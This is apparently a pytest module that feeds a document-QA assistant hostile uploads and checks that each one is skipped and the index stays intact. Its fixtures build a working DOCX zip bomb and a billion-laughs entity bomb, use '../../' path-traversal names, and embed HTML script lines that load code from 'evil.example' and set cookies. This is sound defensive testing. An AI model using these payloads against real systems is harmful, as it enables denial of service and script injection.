"""Hostile files, made here, in one ingest with good files: each bad one is skipped by name with a reason,
every good one is indexed, and nothing the index held before is lost or changed.

``tests/test_load.py`` checks each reader on its own; this module checks the whole path at once:
``Assistant.add`` (CLI and Python) and ``ui.library.Library.add`` (the web chat's uploads).
"""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path

import pytest

from qa import Assistant
from tests.conftest import FIXTURES, PARALLEL

DOCS = FIXTURES / "docs"
LIMIT = 300_000  # the configured per-file limit for these assistants

GOOD = {
    "new_english.txt": "The Tangier lighthouse\n\nThe Cap Spartel lighthouse near Tangier was lit in 1864. "
                       "Its beam reaches 30 nautical miles over the strait.\n",
    "new_arabic.md": "# منارة كاب سبارتيل\n\nأضيئت منارة كاب سبارتيل قرب طنجة عام 1864. "
                     "ويصل ضوؤها إلى 30 ميلا بحريا فوق المضيق.\n",
    # Scripts, styles and event handlers are dropped; the visible text is indexed.
    "page_with_scripts.html": "<html><head><title>Harbour <script>alert(1)</script> notes</title>"
                              "<script>document.cookie='stolen'</script><style>body{display:none}</style></head>"
                              "<body onload=\"alert('x')\"><p>The harbour of Asilah has 120 fishing boats.</p>"
                              "<script type=module>import('//evil.example/x.js')</script>"
                              "<noscript>Enable JavaScript</noscript><p>Boats leave at dawn.</p></body></html>",
    # Lone surrogate escapes: valid JSON, but no UTF-8 can hold them (they once crashed the whole ingest).
    "escaped_surrogates.json": '{"title": "Safi \\ud800 port", "text": "The port of Safi has 40 cranes \\udfff.", '
                               '"metadata": {"\\udc00": ["\\ud83d"]}}',
}


def _pdf_encrypted() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=DOCS / "english.pdf")
    writer.encrypt(user_password="user-secret", owner_password="owner-secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _docx_zip_bomb(path: Path) -> None:
    """A real bomb: 210 MB of zeros deflated to a few hundred kB (over the 200 MB inflate cap)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("word/document.xml", "w") as member:
            block = b"0" * (1 << 20)
            for _ in range(210):
                member.write(block)


def _docx_billion_laughs(path: Path) -> None:
    import docx

    base = io.BytesIO()
    d = docx.Document()
    d.add_paragraph("PLACEHOLDER")
    d.save(base)
    src = zipfile.ZipFile(base)
    entities = '<!DOCTYPE lolz [<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
    xml = src.read("word/document.xml").decode().replace("?>", "?>" + entities, 1).replace("PLACEHOLDER", "&lol9;")
    with zipfile.ZipFile(path, "w") as z:
        for info in src.infolist():
            z.writestr(info, xml if info.filename == "word/document.xml" else src.read(info.filename))


def make_hostile(folder: Path) -> dict[str, str]:
    """Write the hostile files into ``folder``; returns file name -> a word its skip reason must hold."""
    folder.mkdir(parents=True, exist_ok=True)
    pdf = (DOCS / "english.pdf").read_bytes()
    (folder / "truncated.pdf").write_bytes(pdf[: len(pdf) // 2])
    (folder / "encrypted.pdf").write_bytes(_pdf_encrypted())
    shutil.copy(DOCS / "scanned.pdf", folder / "scanned.pdf")
    (folder / "image_renamed.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4)
    (folder / "latin1.txt").write_bytes("Café in Fès: 12 dirhams. Crème brûlée.".encode("latin-1"))
    (folder / "empty.md").write_bytes(b"")
    _docx_zip_bomb(folder / "zip_bomb.docx")
    _docx_billion_laughs(folder / "billion_laughs.docx")
    (folder / "not_a_zip.docx").write_bytes(b"PK\x03\x04 this is no zip archive")
    (folder / "only_scripts.html").write_text("<html><script>alert(1)</script><style>p{}</style></html>")
    (folder / "too_big.txt").write_text("All work and no play. " * (LIMIT // 20))
    (folder / "broken.json").write_text('{"text": "unterminated')
    (folder / "no_text_field.jsonl").write_text(json.dumps({"title": "x", "body": "y"}) + "\n")
    return {
        "truncated.pdf": "damaged", "encrypted.pdf": "encrypted", "scanned.pdf": "no text layer",
        "image_renamed.txt": "binary", "latin1.txt": "UTF-8", "empty.md": "empty", "zip_bomb.docx": "zip bomb",
        "billion_laughs.docx": "could not parse", "not_a_zip.docx": "not a valid .docx",
        "only_scripts.html": "no text", "too_big.txt": "limit", "broken.json": "not valid JSON",
        "no_text_field.jsonl": "'text'",
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, dict[str, str]]:
    folder = tmp_path_factory.mktemp("hostile") / "files"
    return folder, make_hostile(folder)


def chunk_texts(assistant: Assistant) -> dict[str, list[str]]:
    snap = assistant.index.snapshot
    out: dict[str, list[str]] = {}
    for row in range(len(snap)):
        c = snap.chunks[row]
        out.setdefault(c.doc_id, []).append(c.text)
    return out


@pytest.fixture()
def indexed(tmp_path):
    """An index that already holds three documents (two English, one Arabic)."""
    corpus = tmp_path / "before"
    corpus.mkdir()
    shutil.copy(PARALLEL / "en" / "library.txt", corpus / "library.txt")
    shutil.copy(PARALLEL / "en" / "bridge.txt", corpus / "bridge.txt")
    shutil.copy(PARALLEL / "ar" / "solar.txt", corpus / "solar.txt")
    return Assistant.build([corpus], tmp_path / "index", max_bytes=LIMIT)


def test_one_ingest_of_hostile_and_good_files(indexed, hostile, tmp_path):
    a = indexed
    before_docs = {d["id"]: d for d in a.documents()}
    before_chunks = chunk_texts(a)
    incoming = tmp_path / "incoming"
    shutil.copytree(hostile[0], incoming)
    expected = dict(hostile[1])
    for name, text in GOOD.items():
        (incoming / name).write_text(text, "utf-8")

    report = a.add([incoming])

    skipped = {Path(s.path).name: s.reason for s in report.skipped}
    assert set(skipped) == set(expected), skipped
    for name, word in expected.items():
        assert word.lower() in skipped[name].lower(), (name, skipped[name])
    assert sorted(Path(p).name for p in report.added) == sorted(GOOD)
    after = {d["id"]: d for d in a.documents()}
    assert set(before_docs) < set(after) and len(after) == len(before_docs) + len(GOOD)
    after_chunks = chunk_texts(a)
    assert {k: after_chunks[k] for k in before_docs} == before_chunks  # the old documents are untouched

    # Each new document is searchable, its chunks slice its text, and no script text got in.
    assert "1864" in a.ask("When was the Cap Spartel lighthouse lit?").text
    assert "1864" in a.ask("متى أضيئت منارة كاب سبارتيل؟").text
    assert "120" in a.ask("How many fishing boats does the harbour of Asilah have?").text
    assert "40 cranes \ufffd" in a.ask("How many cranes does the port of Safi have?").text
    page = next(d for d in after.values() if d["path"].endswith("page_with_scripts.html"))
    assert page["title"].startswith("Harbour") and page["title"].endswith("notes")  # text; escaped when shown
    html_text = " ".join(after_chunks[page["id"]])
    for word in ("alert", "cookie", "evil.example", "display:none", "Enable JavaScript"):
        assert word not in html_text
    # What is on disk opens (checksums verified) and holds the same documents.
    reopened = Assistant.open(a.index.folder)
    assert {d["id"] for d in reopened.documents()} == set(after)
    assert chunk_texts(reopened) == after_chunks


def test_hostile_uploads_through_the_library(indexed, hostile, tmp_path):
    """The web chat's upload path: the same files under the names the user gave them."""
    import ui  # noqa: F401 - first: sets the environment that keeps Gradio from phoning home
    from ui.library import Library

    library = Library(indexed, max_upload_bytes=LIMIT)
    before = {d["id"] for d in indexed.documents()}
    incoming = tmp_path / "incoming"
    shutil.copytree(hostile[0], incoming)
    expected = {**hostile[1], "too_big.txt": "upload limit"}  # refused while it is stored, before ingest
    for name, text in GOOD.items():
        (incoming / name).write_text(text, "utf-8")
    files = [(f"../../{p.name}", io.BytesIO(p.read_bytes())) for p in sorted(incoming.iterdir())]

    result = library.add(files)

    skipped = dict(result.skipped)
    assert set(skipped) == {f"../../{n}" for n in expected}, skipped
    for name, word in expected.items():
        assert word.lower() in skipped[f"../../{name}"].lower(), (name, skipped[f"../../{name}"])
    assert sorted(result.added) == sorted(f"../../{n}" for n in GOOD)
    assert before < {d["id"] for d in indexed.documents()}
    # Refused files are not kept; the stored ones are exactly the indexed uploads.
    stored = sorted(p.name for p in library.folder.iterdir())
    assert stored == sorted(GOOD)
